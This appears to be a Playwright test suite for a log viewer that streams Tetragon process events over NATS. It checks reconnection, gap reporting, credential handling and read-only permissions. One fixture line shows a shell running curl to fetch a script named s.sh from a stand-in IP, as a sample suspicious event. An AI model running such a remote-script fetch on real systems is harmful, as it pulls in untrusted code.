import { generateClusterLog } from '../src/testing/cluster-log'
import { drawLog } from '../src/testing/draw-log'
import { connectToNats, feedState, logIn, type Choice } from './helpers/nats-form'
import { HAS_NATS, NatsServer, PASSWORDS, WITHOUT_NATS } from './helpers/nats-server'
import { SINGLE_FILE_URL } from './helpers/paths'
import { Relay } from './helpers/relay'
import { isCi } from '../src/testing/is-ci'
import { expect, test } from './helpers/test'
import type { Viewer } from './helpers/viewer'

test.skip(!HAS_NATS && !isCi, WITHOUT_NATS)

const first = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
`)
const second = drawLog(`
  pod default/ywing container 2fb931d2 node n2
    20 /bin/sh 20s..30s
      21 /usr/bin/id 22s..23s
`)
/** Some thousands of events, each once. */
const many = generateClusterLog({ seed: 11, processes: 2500, nodes: 2, podsPerNode: 4 })
const manyLines = [...many.lines]
const manyEvents = Object.values(many.truth.events).reduce((sum, count) => sum + count, 0)

let server: NatsServer
test.beforeEach(async ({ folder, baseURL }) => {
  server = await NatsServer.serve(folder.path, new URL(baseURL ?? '').origin)
})
test.afterEach(() => server.kill())

function connect(viewer: Viewer, choice: Partial<Choice> = {}): Promise<void> {
  return connectToNats(viewer, { url: server.url, ...choice })
}

/** All events of a list of lines are there, each once, and nothing is said to be missing. */
async function expectAll(viewer: Viewer, events: number): Promise<void> {
  await expect(viewer.status).toContainText(`${events.toLocaleString('en-US')} events`, { timeout: 40_000 })
  await expect(viewer.status).toContainText('nothing is known to be missing')
}

test('events of a stream appear, those that are published later, too, and the link is asked about and shows the same', async ({
  viewer,
  page,
}) => {
  await server.publish('n1', first.lines)
  await viewer.goto()
  await connect(viewer)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(feedState(viewer)).toContainText('live')
  await server.publish('n2', second.lines)
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(page).toHaveURL(/feed=nats%2Bws:\/\/127\.0\.0\.1:\d+\/TETRAGON/)
  expect(page.url()).not.toMatch(/seeAll|viewer/)

  await page.reload()
  const dialog = page.getByRole('dialog', { name: 'Connect to a live feed?' })
  await expect(dialog.getByText(new URL(server.url).host, { exact: true })).toBeVisible()
  await logIn(viewer, 'viewer', PASSWORDS.viewer)
  await dialog.getByRole('button', { name: 'Connect', exact: true }).click()
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expectAll(viewer, first.lines.length + second.lines.length)
})

test('a server that is killed while it stores and sends, and comes back, loses nothing and repeats nothing', async ({
  viewer,
}) => {
  await viewer.goto()
  await connect(viewer)
  await expect(feedState(viewer)).toContainText('live')
  const publishing = server.publish('n1', manyLines, 200).then(
    () => 'all',
    () => 'cut off',
  )
  await expect(viewer.status).toContainText(/\d events/)
  await server.kill()
  expect(await publishing).toBe('cut off')
  await expect(feedState(viewer)).toContainText(/reconnecting, attempt \d+/)
  await server.start()
  await server.publish('n1', manyLines)
  await expectAll(viewer, manyEvents)
  await expect(feedState(viewer)).toContainText('live')
})

test('a slow line, one that is cut and a server that stalls lose nothing and repeat nothing', async ({ viewer }) => {
  test.slow() // a stall takes ten seconds to be one
  await server.publish('n1', manyLines)
  const relay = await Relay.to(server.url)
  relay.slow(300_000)
  await viewer.goto()
  await connect(viewer, { url: relay.url })
  for (let i = 0; i < 3; i++) {
    await expect(feedState(viewer)).toContainText(/live|behind/)
    await viewer.page.waitForTimeout(300)
    relay.cut()
    await expect(feedState(viewer)).toContainText('reconnecting')
  }
  await expect(feedState(viewer)).toContainText(/behind by [\d,]+ messages/)
  server.stall()
  relay.slow(Infinity) // what is on its way already still comes
  await expect(feedState(viewer)).toContainText(/reconnecting.*the server does not answer/, { timeout: 40_000 })
  server.goOn()
  await expectAll(viewer, manyEvents)
  await relay.close()
})

test('what was removed from the stream before it was read is a gap', async ({ viewer, page }) => {
  const relay = await Relay.to(server.url)
  await server.publish('n1', first.lines)
  await viewer.goto()
  await connect(viewer, { url: relay.url })
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  relay.shut()
  await expect(feedState(viewer)).toContainText('reconnecting')
  await server.publish('n1', manyLines.slice(0, 12))
  await server.purge()
  await server.publish('n2', second.lines)
  relay.open()
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.status.getByText('data missing')).toBeVisible()
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await expect(page.getByRole('dialog')).toContainText('1 gap in a feed')
  await page.getByRole('dialog').getByRole('button', { name: 'Show' }).click()
  await expect(page.getByText('12 messages were removed from the stream before they were read')).toBeVisible()
  await relay.close()
})

test('a wrong password is said, is nowhere shown, and the right one goes on from there', async ({ viewer, page }) => {
  await server.publish('n1', first.lines)
  await viewer.goto()
  await connect(viewer, { password: 'hunter2' })
  await expect(feedState(viewer)).toContainText('closed · the server refuses the credentials')
  await expect(page.getByRole('list', { name: 'Feeds' })).toContainText('closed · the server refuses the credentials')
  expect(page.url()).not.toContain('hunter2')
  expect(await page.content()).not.toContain('hunter2')
  expect(await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))).not.toContain('hunter2')
  await viewer.button('Connect again').click()
  await page.getByRole('dialog').getByRole('button', { name: 'Connect', exact: true }).click()
  await expect(feedState(viewer).last()).toContainText('closed · the server asks for credentials')
  await viewer.button('Connect again').click()
  await logIn(viewer, 'viewer', PASSWORDS.viewer)
  await page.getByRole('dialog').getByRole('button', { name: 'Connect', exact: true }).click()
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
})

test('a closed feed is connected to again beside what is open, and a stream that was made anew meanwhile is a gap', async ({
  viewer,
  page,
}) => {
  const earlier = drawLog('host n3\n 30 /usr/bin/earlier 0s..')
  await server.publish('n1', first.lines)
  await viewer.goto()
  await connect(viewer)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await viewer.dropFiles({ name: 'earlier.log', content: earlier.text })
  await expect(viewer.row('/usr/bin/earlier')).toBeVisible()
  await viewer.button('Disconnect').click()
  await server.deleteStream()
  await server.makeStream()
  await server.publish('n2', second.lines)
  await viewer.button('Connect again').click()
  const dialog = page.getByRole('dialog', { name: 'Connect to a live feed?' })
  await logIn(viewer, 'viewer', PASSWORDS.viewer)
  await expect(dialog.getByRole('checkbox')).toHaveCount(0)
  await dialog.getByRole('button', { name: 'Connect', exact: true }).click()
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(viewer.row('/usr/bin/earlier')).toBeVisible()
  await expect(viewer.status.getByText('data missing')).toBeVisible()
  await expect(viewer.button('Connect again')).toHaveCount(0)
})

test('a viewer of one node sees that node, and neither it nor another viewer can do more than read', async ({
  viewer,
}) => {
  await server.publish('node1', first.lines)
  await server.publish('node2', second.lines)
  await viewer.goto()
  await connect(viewer, { user: 'viewer-node1' })
  await expect(feedState(viewer)).toContainText('the user may not ask $JS.API.CONSUMER.CREATE.TETRAGON')
  await viewer.button('Close log').click()
  await connect(viewer, { subjects: 'tetragon.node1 tetragon.node2' })
  await expect(feedState(viewer)).toContainText('several subjects need NATS 2.10')
  await viewer.button('Close log').click()
  await connect(viewer, { user: 'viewer-node1', subjects: 'tetragon.node1' })
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expectAll(viewer, first.lines.length)

  for (const request of [
    'STREAM.PURGE.TETRAGON',
    'STREAM.DELETE.TETRAGON',
    'STREAM.MSG.DELETE.TETRAGON',
    'STREAM.LIST',
  ])
    expect(await server.isRefused('viewer', `$JS.API.${request}`)).toBe(true)
  expect(await server.isRefused('viewer', 'tetragon.node1')).toBe(true)
  expect(await server.isRefused('viewer-node1', '$JS.API.CONSUMER.CREATE.TETRAGON.x.tetragon.node2')).toBe(true)
  expect(await server.isRefused('publisher', '$JS.API.STREAM.PURGE.TETRAGON')).toBe(true)
  expect(await server.isRefused('viewer', '$JS.API.STREAM.INFO.TETRAGON')).toBe(false)
})

test('a feed from now on keeps that start in its link; the page from disk connects, too', async ({
  viewer,
  page,
  folder,
}) => {
  await server.kill()
  server = await NatsServer.serve(await folder.make('open')) // a page from disk has no origin
  await server.publish('n1', first.lines)
  await page.goto(SINGLE_FILE_URL)
  await connect(viewer, { start: 'now', subjects: 'tetragon.*' })
  await expect(feedState(viewer)).toContainText('live')
  await server.publish('n2', second.lines)
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(page).toHaveURL(new RegExp(`from%3Dsequence:${first.lines.length + 1}`))
  await page.reload()
  await logIn(viewer, 'viewer', PASSWORDS.viewer)
  await page.getByRole('dialog').getByRole('button', { name: 'Connect', exact: true }).click()
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expectAll(viewer, second.lines.length)
})
